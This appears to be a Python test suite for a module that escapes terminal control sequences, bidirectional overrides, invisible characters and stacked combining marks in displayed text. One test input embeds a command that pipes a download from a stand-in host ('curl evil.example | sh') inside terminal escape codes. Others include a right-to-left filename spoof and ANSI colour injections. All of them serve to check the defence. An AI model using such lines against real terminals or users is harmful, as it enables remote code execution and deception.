"""Text cannot control the terminal that shows it, and nothing of it is left out."""

from __future__ import annotations

import json
import os
import re
import sys
import unicodedata
from collections.abc import Callable
from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.case_tables import walk_cases
from tests.text.hidden_characters import HIDDEN, is_hidden
from zoea.text import control_characters
from zoea.text.control_characters import MAX_MARKS, one_line, prose_line, reveal, reveal_exactly

HOSTILE = st.text(st.characters(codec=None) | st.sampled_from("\x1b\x9b\x9d\r\n\t[]0;m\x07\\\u200d\ufe0f⚠👩\u2800⠁"))
BOTH = pytest.mark.parametrize("show", [reveal, reveal_exactly])
LEGITIMATE = ["⚠️ ❤️", "👨‍👩‍👧‍👦🏳️‍🌈", "👩🏽‍🚀🏃‍♀️", "1️⃣", "می‌خواهم", "क्‍ष", "ന്‍", "⠁⠀⠀⠂", "ᠠ᠋"]


@walk_cases(
    ("text", "shown"),
    [
        ("\x1b[31mred\x1b[0m", "\\u001b[31mred\\u001b[0m"),
        ("ls \x9d; curl evil.example | sh #\x9c", "ls \\u009d; curl evil.example | sh #\\u009c"),
        ("pay 1\x9b0000000 EUR", "pay 1\\u009b0000000 EUR"),
        ("a\x00b\x07c\x08d\x7fe\x85", "a\\u0000b\\u0007c\\u0008d\\u007fe\\u0085"),
        ("50 %\rover", "50 %\\u000dover"),
        ("two\u2028three", "two\\u2028three"),
        ("safe\u202egnp.exe", "safe\\u202egnp.exe"),
        ("soft\xadhyphen\u200band\ufeffmark", "soft\\u00adhyphen\\u200band\\ufeffmark"),
        ("a\U000e0041", "a\\udb40\\udc41"),
        ("a\ufe0f 😀\ufe0f\ufe0f", "a\\ufe0f 😀\ufe0f\\ufe0f"),
        ("a\u200db کا\u200c", "a\\u200db کا\\u200c"),
        ("\u3164\u115f\u2800", "\\u3164\\u115f\\u2800"),
        ("half \ud800", "half \\ud800"),
    ],
)
def test_hidden_characters_are_shown_as_escapes(text: str, shown: str) -> None:
    assert reveal(text) == shown


def test_every_character_without_ink_is_an_escape() -> None:
    for show in (reveal, reveal_exactly, one_line, prose_line):
        assert [char for char in HIDDEN if show(f"a{char}b") != f"a{json.dumps(char)[1:-1]}b" and char > "\x7f"] == []
        assert not [char for char in HIDDEN if is_hidden(show(f"a{char}b"))]


def test_the_end_of_a_line_is_shown_as_one() -> None:
    assert reveal("one\r\ntwo\x00\r\n\r\r\n") == "one\ntwo\\u0000\n\\u000d\n"
    assert reveal_exactly("one\r\ntwo\n\t") == "one\\u000d\ntwo\n\t"


@walk_cases("text", LEGITIMATE)
def test_joiners_that_writing_needs_stay_in_prose_only(text: str) -> None:
    assert reveal(text) is text
    assert prose_line(text) == text
    assert not is_hidden(reveal_exactly(text))
    assert json.loads(reveal_exactly(json.dumps(text, ensure_ascii=False))) == text


@BOTH
def test_a_harmless_text_is_returned_as_the_same_object(show: Callable[[str], str]) -> None:
    text = "tab\tnewline\n العربية 😀 [31m"
    assert show(text) is text


@BOTH
@given(HOSTILE)
def test_no_control_character_is_left(show: Callable[[str], str], text: str) -> None:
    shown = show(text)
    assert not [c for c in shown if unicodedata.category(c) in ("Cc", "Cs", "Zl", "Zp") and c not in "\n\t"]
    assert show(shown) is shown
    assert show is reveal or not is_hidden(shown)


JSON = st.recursive(HOSTILE | st.integers() | st.none(), lambda one: st.lists(one) | st.dictionaries(HOSTILE, one))


@given(JSON)
def test_json_that_is_shown_parses_to_the_same_value(value: object) -> None:
    for text in (json.dumps(value), json.dumps(value, ensure_ascii=False), json.dumps(value, indent=2)):
        assert json.loads(reveal_exactly(text)) == json.loads(text)


SIZE = 300_000 if os.environ.get("ZOEA_SOAK") else 100_000


@walk_cases("unit", ["\x1b[", "\x1b]", "\x1b", "\x9d1", "\r", "\u2800", "\u200d", "👩\u200d", " ", "\t "])
def test_hostile_repetition_costs_time_in_proportion_to_its_length(unit: str) -> None:
    begun = process_time()
    for show in (prose_line, one_line):
        show(unit * (SIZE // len(unit)))
    assert process_time() - begun < SIZE / 100_000


SEARCHED = re.compile("[\x00-\x08\u200b-\u200f\u2060-\u206f\ue000-\uf8ff]")


@pytest.mark.parametrize("unit", ["it goes on — “so” it said…\n", "鉄鉱石を採掘する。"])
def test_prose_beyond_ascii_costs_little_more_than_one_search(unit: str) -> None:
    text = unit * (40_000 // len(unit))
    least = min(timed(lambda: SEARCHED.search(text)) for _ in range(5))
    # 5 to 9 by the machine; ranges that are compared one by one take 30.
    assert min(timed(lambda: reveal(text)) for _ in range(5)) < 15 * least


def timed(work: Callable[[], object]) -> float:
    """Return the seconds of CPU that ten calls take."""
    begun = process_time()
    for _ in range(10):
        work()
    return process_time() - begun


class TestMarks:
    @BOTH
    def test_marks_piled_up_on_a_character_are_escapes(self, show: Callable[[str], str]) -> None:
        kept = "\u0301" * MAX_MARKS
        assert show("a" + "\u0301" * 500 + "b") == "a" + kept + "\\u0301" * (500 - MAX_MARKS) + "b"
        mixed = "a" + "".join(mark * 100 for mark in ("\u0301", "\u0489", "\u1161", "\U0001e94a"))
        shown = show(mixed)
        assert shown.startswith(f"a{kept}\\u0301")
        assert shown.isascii() is False
        assert json.loads(f'"{shown}"') == mixed
        assert show(shown) is shown

    @walk_cases("text", ["e\u0301", "ཧྐྵྨླྺྼྻྂ", "กำ้ลั๊ง", "हिन्दी", "שָׁלוֹם", "각", "ﷺ", "Z͑ͫ̓ͪ̂ͫ"])
    def test_writing_of_the_world_stays(self, text: str) -> None:
        assert reveal(text) is text
        assert reveal_exactly(text) is text

    @BOTH
    @pytest.mark.parametrize(
        "text", ["alpha · it goes on…", "─" * 40 + "●" * 10, "Сколько железа?", "鉄鉱石を採掘する。"]
    )
    def test_texts_without_marks_do_not_build_the_pattern_of_marks(
        self, show: Callable[[str], str], text: str, monkeypatch: pytest.MonkeyPatch
    ) -> None:
        monkeypatch.delattr(control_characters, "_piled_marks")  # it takes 5 ms, which each `zoea list` would pay
        assert show(text) is text

    def test_the_pattern_of_marks_is_tried_on_every_character_without_a_width(self) -> None:
        every = map(chr, range(0x80, sys.maxunicode + 1))
        tried = control_characters._MAYBE_PILED.search
        missed = [char for char in every if control_characters._has_no_width(char) and not tried(char * 9)]
        assert [char for char in missed if reveal_exactly(char) == char] == [], "the others never stay as they are"


def test_lines_are_joined_and_blanks_kept() -> None:
    assert one_line(" two  blanks \n\t next \r\n") == "two  blanks next \\u000d"
    assert prose_line(" two  blanks \n\t next \r\n") == "two  blanks next"
